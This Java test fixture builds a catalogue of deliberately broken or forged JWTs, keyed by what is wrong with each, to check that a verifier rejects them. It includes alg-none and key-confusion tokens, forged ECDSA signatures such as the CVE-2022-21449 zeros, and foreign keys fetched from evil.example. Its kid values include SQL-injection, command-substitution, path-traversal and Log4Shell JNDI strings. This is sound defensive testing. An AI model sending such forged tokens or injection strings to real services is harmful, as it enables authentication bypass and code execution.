package dev.koder.herald.app;

import static dev.koder.herald.app.TestIssuer.EC;
import static dev.koder.herald.app.TestIssuer.RSA;
import static dev.koder.herald.app.TestIssuer.unchecked;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import dev.koder.herald.app.TestIssuer.Draft;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.Signature;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Tokens each of which is wrong in one way, as RFC 8725 warns of them and as they were found in the wild. */
final class BadTokens {

    private static final ECKey FOREIGN = TestIssuer.ec("ec-1");
    private static final RSAKey FOREIGN_RSA = TestIssuer.rsa("rsa-1");
    private static final String HEADER = "{\"alg\":\"ES256\",\"kid\":\"ec-1\"}";

    /** The order of P-256. */
    private static final BigInteger ORDER =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

    private final TestIssuer issuer;
    private final long now;
    private final Map<String, String> tokens = new LinkedHashMap<>();

    private BadTokens(TestIssuer issuer, long now) {
        this.issuer = issuer;
        this.now = now;
    }

    /** All of them, by what is wrong with each. */
    static Map<String, String> of(TestIssuer issuer, long now) {
        BadTokens bad = new BadTokens(issuer, now);
        bad.algorithms();
        bad.secrets();
        bad.keyIds();
        bad.foreignKeys();
        bad.extensions();
        bad.signatures();
        bad.missingAndMistypedClaims();
        bad.wrongClaims();
        bad.times();
        bad.twins();
        bad.forms();
        return bad.tokens;
    }

    private void add(String what, String token) {
        if (tokens.put(what, token) != null) {
            throw new AssertionError("twice: " + what);
        }
    }

    private Draft good() {
        return issuer.aToken(now);
    }

    private void algorithms() {
        for (String none : List.of("none", "None", "NONE", "nOnE", "none ", "")) {
            Draft unsigned = good().header("alg", none);
            add("alg '" + none + "' without a signature", unsigned.unsigned());
            add("alg '" + none + "' with the signature of a good token", unsigned.unsigned() + signature());
            add("alg '" + none + "' with some signature", unsigned.unsigned() + "AAAA");
        }
        for (String other :
                List.of("es256", "ES256 ", "ES256K", "ES384", "ES512", "HS256", "Ed25519", "dir", "A128KW")) {
            add("ES256 called '" + other + "'", good().header("alg", other).signedBy(EC));
        }
        List<Object> mistyped = Arrays.asList(null, 256, true, List.of("ES256"), Map.of("alg", "ES256"));
        mistyped.forEach(
                value -> add("alg " + value, good().header("alg", value).signedBy(EC)));
        add("no alg", good().headerWithout("alg").signedBy(EC));
        for (String rsa : List.of("RS384", "RS512", "PS384", "PS512")) {
            add(rsa, rsa(rsa).signedBy(RSA));
        }
        add("RS256 over the id of an EC key", good().header("alg", "RS256").signedBy(RSA));
        add("ES256 over the id of an RSA key", good().header("kid", "rsa-1").signedBy(EC));
        add("EdDSA over the id of an EC key", eddsa());
        add("a PS256 signature called RS256", rsa("RS256").signedBy(JWSAlgorithm.PS256, rsaSigner()));
        add("an RS256 signature called PS256", rsa("PS256").signedBy(JWSAlgorithm.RS256, rsaSigner()));
    }

    private Draft rsa(String algorithm) {
        return good().header("alg", algorithm).header("kid", "rsa-1");
    }

    private static JWSSigner rsaSigner() {
        return unchecked(() -> new RSASSASigner(RSA));
    }

    private String eddsa() {
        byte[] junk = new byte[64];
        Arrays.fill(junk, (byte) 7);
        return good().header("alg", "EdDSA").unsigned() + Base64URL.encode(junk);
    }

    /** The public key of the issuer in every form in which somebody could have taken it for a secret. */
    private void secrets() {
        byte[] rsa = unchecked(() -> RSA.toRSAPublicKey().getEncoded());
        byte[] ec = unchecked(() -> EC.toECPublicKey().getEncoded());
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("RSA key as DER", rsa);
        secrets.put("RSA key as PEM", pem(rsa));
        secrets.put("RSA key as JWK", RSA.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
        secrets.put("RSA modulus", RSA.getModulus().decode());
        secrets.put("EC key as DER", ec);
        secrets.put("EC key as PEM", pem(ec));
        secrets.put("EC key as JWK", EC.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
        secrets.forEach((what, secret) -> {
            String keyId = what.startsWith("RSA") ? "rsa-1" : "ec-1";
            for (JWSAlgorithm algorithm : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS512)) {
                if (secret.length * 8 >= (algorithm.equals(JWSAlgorithm.HS256) ? 256 : 512)) {
                    Draft draft = good().header("alg", algorithm.getName()).header("kid", keyId);
                    add(
                            algorithm + " with the " + what + " as secret",
                            draft.signedBy(algorithm, unchecked(() -> new MACSigner(secret))));
                }
            }
        });
    }

    private static byte[] pem(byte[] der) {
        String text = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        return ("-----BEGIN PUBLIC KEY-----\n" + text + "\n-----END PUBLIC KEY-----\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    private void keyIds() {
        for (String id : List.of(
                "",
                "EC-1",
                "ec-1 ",
                "ec-1\u0000",
                "ec-1\n",
                "ec-1\u0000/../../dev/null",
                "../../../../dev/null",
                "/etc/passwd",
                "file:///dev/null",
                "ec-1' OR '1'='1",
                "ec-1'; DROP TABLE zones; --",
                "' UNION SELECT 'secret",
                "$(id)",
                "${jndi:ldap://evil.example/a}",
                "https://evil.example/jwks",
                "e\u0301c-1")) {
            add("kid '" + id + "'", good().header("kid", id).signedBy(EC));
        }
        List<Object> mistyped = Arrays.asList(null, 1, true, List.of("ec-1"), Map.of("kid", "ec-1"));
        mistyped.forEach(
                value -> add("kid " + value, good().header("kid", value).signedBy(EC)));
        add("no kid", good().headerWithout("kid").signedBy(EC));
        add("kid of 5000 characters", good().header("kid", "k".repeat(5000)).signedBy(EC));
    }

    private void foreignKeys() {
        ECKey own = TestIssuer.ec("evil");
        add("foreign key under our id", good().signedBy(FOREIGN));
        add("foreign RSA key under our id", rsa("RS256").signedBy(FOREIGN_RSA));
        add("foreign key under its own id", good().header("kid", "evil").signedBy(own));
        Map<String, Object> jwk = FOREIGN.toPublicJWK().toJSONObject();
        add("foreign key as jwk", good().header("jwk", jwk).signedBy(FOREIGN));
        add(
                "foreign key as jwk under its own id",
                good().header("jwk", own.toPublicJWK().toJSONObject())
                        .header("kid", "evil")
                        .signedBy(own));
        add(
                "foreign key as jwk without kid",
                good().header("jwk", jwk).headerWithout("kid").signedBy(FOREIGN));
        for (String place : List.of("jku", "x5u")) {
            add(
                    "foreign keys at " + place,
                    good().header(place, "https://evil.example/keys").signedBy(FOREIGN));
            add(
                    "foreign keys at " + place + " on loopback",
                    good().header(place, issuer.name() + "/jwks").signedBy(FOREIGN));
        }
        add(
                "foreign certificate as x5c",
                good().header("x5c", List.of("MIIBIjAN")).signedBy(FOREIGN));
        add("foreign certificate by x5t", good().header("x5t", "AAAA").signedBy(FOREIGN));
        add("foreign certificate by x5t#S256", good().header("x5t#S256", "AAAA").signedBy(FOREIGN));
    }

    private void extensions() {
        add("crit exp", good().header("crit", List.of("exp")).signed());
        add("crit of nothing", good().header("crit", List.of()).signed());
        add("crit a text", good().header("crit", "exp").signed());
        add(
                "crit unknown",
                good().header("crit", List.of("http://evil.example/must")).signed());
        add(
                "b64 false",
                good().header("b64", false).header("crit", List.of("b64")).signed());
        add("b64 false, not critical", good().header("b64", false).signed());
        add(
                "b64 true, critical",
                good().header("b64", true).header("crit", List.of("b64")).signed());
        for (String type : List.of("logout+jwt", "dpop+jwt", "secevent+jwt", "JWE", "JOSE+JSON", "id_token")) {
            add("typ " + type, good().header("typ", type).signed());
        }
        add("typ a number", good().header("typ", 1).signed());
        add("a token in a token", TestIssuer.sign(HEADER, good().signed(), JWSAlgorithm.ES256, ecSigner()));
    }

    private static ECDSASigner ecSigner() {
        return unchecked(() -> new ECDSASigner(EC));
    }

    private String signature() {
        String token = good().signed();
        return token.substring(token.lastIndexOf('.') + 1);
    }

    private void signatures() {
        String start = good().unsigned();
        byte[] order = new byte[64];
        byte[] n = ORDER.toByteArray();
        System.arraycopy(n, 1, order, 0, 32);
        System.arraycopy(n, 1, order, 32, 32);
        byte[] one = new byte[64];
        one[31] = 1;
        one[63] = 1;
        Map<String, byte[]> values = Map.of(
                "zeros (CVE-2022-21449)",
                new byte[64],
                "the order of the curve",
                order,
                "ones",
                one,
                "96 zeros",
                new byte[96]);
        values.forEach((what, value) -> add("signature of " + what, start + Base64URL.encode(value)));
        add("RSA signature of zeros", rsa("RS256").unsigned() + Base64URL.encode(new byte[256]));
        add("RSA signature of one", rsa("RS256").unsigned() + Base64URL.encode(oneAtTheEnd()));
        add("no signature", start);
        add("signature cut short", start + signature().substring(0, 84));
        add("signature as DER", start + Base64URL.encode(der()));
        add("signature of another token", good().claim("sub", "tenant-b").unsigned() + signature());
        String token = good().signed();
        char last = token.charAt(token.length() - 1);
        add("signature in another spelling", token.substring(0, token.length() - 1) + (char) (last + 1));
        add(
                "signature with an octet more",
                start + Base64URL.encode(Arrays.copyOf(new Base64URL(signature()).decode(), 65)));
    }

    private static byte[] oneAtTheEnd() {
        byte[] value = new byte[256];
        value[255] = 1;
        return value;
    }

    /** A good signature, in the form that certificates have it in. */
    private byte[] der() {
        String start = good().unsigned();
        try {
            Signature signature = Signature.getInstance("SHA256withECDSA");
            signature.initSign(unchecked(EC::toECPrivateKey));
            signature.update(start.substring(0, start.length() - 1).getBytes(StandardCharsets.US_ASCII));
            return signature.sign();
        } catch (GeneralSecurityException impossible) {
            throw new AssertionError(impossible);
        }
    }

    private void missingAndMistypedClaims() {
        List<@Nullable Object> texts =
                Arrays.asList(null, "", 0, 7, true, List.of(), Map.of(), List.of(1), List.of(""));
        for (String claim : List.of("iss", "aud", "sub")) {
            add("no " + claim, good().without(claim).signed());
            texts.forEach(value ->
                    add(claim + " " + shown(value), good().claim(claim, value).signed()));
        }
        List<@Nullable Object> numbers = Arrays.asList(null, "", "0", "soon", true, List.of(now), Map.of("exp", now));
        add("no exp", good().without("exp").signed());
        for (String claim : List.of("exp", "nbf", "iat")) {
            numbers.forEach(value ->
                    add(claim + " " + shown(value), good().claim(claim, value).signed()));
        }
        List<@Nullable Object> scopes =
                Arrays.asList(null, 1, true, List.of("herald.write"), Map.of("herald", "write"));
        scopes.forEach(value ->
                add("scope " + shown(value), good().claim("scope", value).signed()));
        List<@Nullable Object> actors = Arrays.asList(null, "", 7, List.of("alice"), "alice\nroot");
        for (String claim : List.of("client_id", "azp")) {
            actors.forEach(value ->
                    add(claim + " " + shown(value), good().claim(claim, value).signed()));
        }
        List<@Nullable Object> acts =
                Arrays.asList(null, "alice", List.of(), Map.of(), Map.of("sub", 1), Map.of("sub", ""));
        acts.forEach(
                value -> add("act " + shown(value), good().claim("act", value).signed()));
    }

    private static String shown(@Nullable Object value) {
        return value instanceof String text
                ? "'" + text + "'"
                : value + " as " + (value == null ? "null" : value.getClass().getSimpleName());
    }

    private void wrongClaims() {
        String name = issuer.name();
        for (String other : List.of(
                name + "/",
                name + " ",
                name.toUpperCase(Locale.ROOT),
                name.replace("http:", "https:"),
                "https://evil.example")) {
            add("iss '" + other + "'", good().claim("iss", other).signed());
        }
        add("iss in a list", good().claim("iss", List.of(name)).signed());
        for (String other : List.of("koder-mail", "koder-herald-2", "koder", "KODER-HERALD", "koder-herald ", "*")) {
            add("aud '" + other + "'", good().claim("aud", other).signed());
        }
        add(
                "aud of others",
                good().claim("aud", List.of("koder-mail", "koder-pay")).signed());
        add(
                "aud of ours and a number",
                good().claim("aud", List.of("koder-herald", 1)).signed());
        add(
                "aud of ours in a list in a list",
                good().claim("aud", List.of(List.of("koder-herald"))).signed());
        for (String other :
                List.of("tenant a", " tenant-a", "tenant-a\n", "tenant-a\u0000", "t\u00e9nant", "a".repeat(129))) {
            add("sub '" + other + "'", good().claim("sub", other).signed());
        }
    }

    private void times() {
        for (long end : new long[] {now, now - 1, now - 61, 0, -1, Long.MIN_VALUE}) {
            add("exp " + end, good().claim("exp", end).signed());
        }
        add("exp a moment ago", good().claim("exp", now - 0.001).signed());
        for (String claim : List.of("nbf", "iat")) {
            add(claim + " beyond the skew", good().claim(claim, now + 61).signed());
            add(claim + " in milliseconds", good().claim(claim, now * 1000).signed());
        }
        for (String number : List.of("1e400", "-1e400", "NaN", "Infinity", "0x7fffffff", "1_000")) {
            add("exp " + number, claims(good().claimsText().replace(Long.toString(now + 300), number)));
        }
    }

    private String claims(String text) {
        return TestIssuer.sign(HEADER, text, JWSAlgorithm.ES256, ecSigner());
    }

    private String header(String text) {
        return TestIssuer.sign(text, good().claimsText(), JWSAlgorithm.ES256, ecSigner());
    }

    private void twins() {
        for (String member :
                List.of("\"alg\":\"ES256\"", "\"kid\":\"ec-1\"", "\"alg\":\"none\"", "\"k\\u0069d\":\"ec-2\"")) {
            add("header with a second " + member, header(HEADER.replace("}", "," + member + "}")));
        }
        for (String member : List.of(
                "\"iss\":\"https://evil.example\"",
                "\"aud\":\"koder-herald\"",
                "\"sub\":\"tenant-b\"",
                "\"s\\u0075b\":\"tenant-b\"",
                "\"exp\":99999999999",
                "\"iat\":1",
                "\"scope\":\"herald.read\",\"scope\":\"herald.admin\"",
                "\"act\":{\"sub\":\"alice\",\"sub\":\"bob\"}",
                "\"act\":{\"sub\":\"alice\",\"s\\u0075b\":\"bob\"}",
                "\"other\":[{\"a\":1,\"a\":2}]",
                "\"other\":{\"deep\":{\"a\":1,\"\\u0061\":2}}")) {
            add(
                    "claims with a second one: " + member,
                    claims(good().claimsText().replaceFirst("\\}$", "") + "," + member + "}"));
        }
    }

    private void forms() {
        String token = good().signed();
        String[] parts = token.split("\\.", -1);
        add("a dot", ".");
        add("two dots", "..");
        add("one part", parts[0]);
        add("two parts", parts[0] + "." + parts[1]);
        add("a dot before", "." + token);
        add("a dot behind", token + ".");
        add("four parts", token + "." + parts[2]);
        add("five parts, as if encrypted", String.join(".", parts[0], parts[1], parts[2], parts[1], parts[2]));
        add("no header", "." + parts[1] + "." + parts[2]);
        add("no claims", parts[0] + ".." + parts[2]);
        add("header cut short", parts[0].substring(0, parts[0].length() - 4) + "." + parts[1] + "." + parts[2]);
        add("claims cut short", parts[0] + "." + parts[1].substring(0, parts[1].length() - 4) + "." + parts[2]);
        add("padding behind", token + "=");
        add("padding twice behind", token + "==");
        add("padding in the middle", parts[0] + "=." + parts[1] + "." + parts[2]);
        add("a space in it", parts[0] + ". " + parts[1] + "." + parts[2]);
        add("a tab in it", parts[0] + ".\t" + parts[1] + "." + parts[2]);
        add("an escaped line end behind", token + "%0A");
        add("in quotes", "\"" + token + "\"");
        add("of the other base64 alphabet", parts[0] + "." + parts[1] + "." + "+/" + parts[2].substring(2));
        add(
                "in JSON",
                "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
                        + "\"}");
        add("two tokens", token + "," + token);
        add("an encrypted one", encrypted());
        add("too long", good().claim("more", "x".repeat(6500)).signed());
        for (String text : List.of(
                "",
                "hello",
                "null",
                "1",
                "[]",
                "[[\"alg\",\"ES256\"],[\"kid\",\"ec-1\"]]",
                "{",
                "{}",
                HEADER + HEADER)) {
            add("header '" + text + "'", text.isEmpty() ? "." + parts[1] + "." + parts[2] : header(text));
        }
        for (String text : List.of(
                "hello", "null", "1", "[]", "{}", "{", "[[\"sub\",\"tenant-a\"]]", good().claimsText() + "{}")) {
            add("claims '" + (text.length() > 40 ? "followed by more" : text) + "'", claims(text));
        }
        add("header deep as a well", header("{\"alg\":\"ES256\",\"a\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
        add("claims deep as a well", claims("{\"a\":" + "[".repeat(2500) + "]".repeat(2500) + "}"));
    }

    private static String encrypted() {
        return Base64URL.encode("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":\"rsa-1\"}")
                + ".AAAA.AAAA.AAAA.AAAA";
    }
}
